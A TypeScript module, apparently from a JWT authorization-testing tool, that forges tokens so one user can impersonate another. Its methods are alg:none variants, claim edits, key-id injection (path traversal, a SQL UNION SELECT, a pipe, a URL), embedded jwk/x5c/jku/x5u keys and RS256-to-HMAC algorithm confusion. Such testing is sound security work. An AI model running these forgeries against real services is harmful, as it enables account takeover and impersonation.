import { generateKeyPairSync, type KeyObject } from 'node:crypto'
import { CompactSign } from 'jose'
import { isLoopback } from '../target.js'
import { selfSigned } from './certificate.js'
import { type KeyListener, listenForKeys } from './listener.js'
import { publicKeys } from './public-keys.js'
import { assemble, hmacToken, type Parts, readJwt } from './token.js'

export interface ForgeOptions {
  readonly alice: string
  readonly bob: string
  readonly target: URL
  /** Where the provider publishes its keys. */
  readonly jwks?: string | undefined
  /** A genuine token whose time is over. */
  readonly expired?: string | undefined
  /** A genuine token that was issued for somebody else than this server. */
  readonly otherAudience?: string | undefined
}

/** All tokens that were forged for one run. */
export interface Forgery {
  /** By name; a name begins with the way it was forged. */
  readonly tokens: ReadonlyMap<string, string>
  readonly names: readonly string[]
  /** When the genuine expired token ran out, in seconds; undefined where none was given, or it doesn't say. */
  readonly expiredAt: number | undefined
  /** Whether the server fetched a key from the address that a forged token named. */
  listenerContacted(): boolean
  close(): void
}

/** Claims that say who somebody is, or what he may do. */
const IDENTITY =
  /^(sub|uid|user|user_?id|email|preferred_username|username|upn|oid|tenant(_?id)?|tid|org(_?id)?|groups?|roles?|permissions|scopes?|scp)$/i

type Tokens = readonly (readonly [name: string, token: string])[]

/**
 * Makes the tokens with which Bob would become Alice, out of the two tokens that the users really have. `undefined` where
 * these are no JWTs.
 */
export async function forge(options: ForgeOptions): Promise<Forgery | undefined> {
  const { target, expired, otherAudience } = options
  const alice = readJwt(options.alice)
  const bob = readJwt(options.bob)
  if (!alice || !bob) return undefined
  const payload = { ...bob.payload, ...identityOf(alice) }
  const pair = generateKeyPairSync('rsa', { modulusLength: 2048 })
  const jwk = { ...pair.publicKey.export({ format: 'jwk' }), kid: 'authkit-isolation', alg: 'RS256', use: 'sig' }
  const certificate = selfSigned(pair).toString('base64')
  // A server elsewhere could not reach it anyway.
  const listener = isLoopback(target)
    ? await listenForKeys(() => ({ '/jwks.json': JSON.stringify({ keys: [jwk] }), '/x509.pem': pem(certificate) }))
    : undefined
  const forged: Tokens = [
    ...withoutAlgorithm(bob, payload),
    ...withEditedClaims(alice, bob),
    ...withOddKeyIds(bob, payload, listener),
    ...(await withOwnKey(bob, payload, pair.privateKey, { jwk, certificate, listener })),
    ...(await publicKeys(options.jwks, bob.payload['iss'], target)).flatMap((key, index) =>
      withConfusedAlgorithm(bob, payload, key, index + 1),
    ),
    ...(expired === undefined ? [] : [['expired-genuine', expired] as const]),
    ...(otherAudience === undefined ? [] : [['audience-other', otherAudience] as const]),
  ]
  const expiredAt = expired === undefined ? undefined : readJwt(expired)?.payload['exp']
  const tokens = new Map(forged)
  return {
    tokens,
    names: [...tokens.keys()],
    expiredAt: typeof expiredAt === 'number' ? expiredAt : undefined,
    listenerContacted: () => listener?.contacted() ?? false,
    close: () => listener?.close(),
  }
}

function identityOf({ payload }: Parts): Record<string, unknown> {
  return Object.fromEntries(Object.entries(payload).filter(([name]) => IDENTITY.test(name)))
}

/** "This token needs no signature", in the spellings that a filter may overlook, and none at all. */
function withoutAlgorithm(bob: Parts, payload: object): Tokens {
  const { alg: _, ...header } = bob.header
  const spellings = ['none', 'None', 'NONE', 'nOnE'].map(
    (alg, index) => [`alg-none-${index + 1}`, assemble({ ...header, alg }, payload, '')] as const,
  )
  return [
    ...spellings,
    ['alg-none-kept', assemble({ ...header, alg: 'none' }, payload, bob.signature)],
    ['alg-none-cut', assemble(bob.header, payload, '')],
    ['alg-none-cut-own', assemble(bob.header, bob.payload, '')],
  ]
}

/** What says who Alice is, one claim at a time and all together, under the signature of Bob's token. */
function withEditedClaims(alice: Parts, bob: Parts): Tokens {
  const differing = Object.entries(identityOf(alice)).filter(
    ([name, value]) => JSON.stringify(bob.payload[name]) !== JSON.stringify(value),
  )
  const edited = (changes: object) => assemble(bob.header, { ...bob.payload, ...changes }, bob.signature)
  return [
    ['claim-edit-all', edited(Object.fromEntries(differing))],
    ...differing.map(
      ([name, value]) => [`claim-edit-${name.replaceAll('_', '-')}`, edited({ [name]: value })] as const,
    ),
  ]
}

/** Key ids that are a file, a query, a command or an address to a server that looks keys up carelessly. */
function withOddKeyIds(bob: Parts, payload: object, listener: KeyListener | undefined): Tokens {
  const ids = {
    'dev-null': ['../../../../../../dev/null', ''],
    unknown: ['authkit-isolation-unknown', ''],
    quote: [`' UNION SELECT 'authkit' -- `, 'authkit'],
    pipe: ['key|true', ''],
    // No host has the name .invalid (RFC 2606).
    url: [listener ? `${listener.url}/jwks.json` : 'https://keys.invalid/jwks.json', ''],
  } as const
  return Object.entries(ids).map(([name, [kid, secret]]) => [
    `kid-${name}`,
    hmacToken({ ...bob.header, kid }, payload, secret),
  ])
}

interface OwnKey {
  readonly jwk: object
  readonly certificate: string
  readonly listener: KeyListener | undefined
}

/** Correctly signed, by a key that comes with the token. */
async function withOwnKey(bob: Parts, payload: object, key: KeyObject, own: OwnKey): Promise<Tokens> {
  const { jwk, certificate, listener } = own
  const headers: Record<string, object> = {
    jwk: { jwk },
    x5c: { x5c: [certificate] },
    ...(listener ? { jku: { jku: `${listener.url}/jwks.json` }, x5u: { x5u: `${listener.url}/x509.pem` } } : {}),
  }
  const text = new TextEncoder().encode(JSON.stringify(payload))
  return Promise.all(
    Object.entries(headers).map(async ([name, extra]) => {
      const { kid: _, ...kept } = bob.header
      const header = { ...kept, ...extra, alg: 'RS256', kid: 'authkit-isolation' }
      const token = await new CompactSign(text).setProtectedHeader(header).sign(key)
      return [`embedded-key-${name}`, token] as const
    }),
  )
}

/** The public key, which everybody has, as the secret of an HMAC. */
function withConfusedAlgorithm(bob: Parts, payload: object, key: KeyObject, index: number): Tokens {
  const text = key.export({ format: 'pem', type: 'spki' }).toString()
  const forms = { pem: text, 'pem-trimmed': text.trim(), der: key.export({ format: 'der', type: 'spki' }) }
  return Object.entries(forms).map(([form, secret]) => [
    `alg-confusion-${index}-${form}`,
    hmacToken(bob.header, payload, secret),
  ])
}

function pem(certificate: string): string {
  return `-----BEGIN CERTIFICATE-----\n${certificate.match(/.{1,64}/g)?.join('\n')}\n-----END CERTIFICATE-----\n`
}
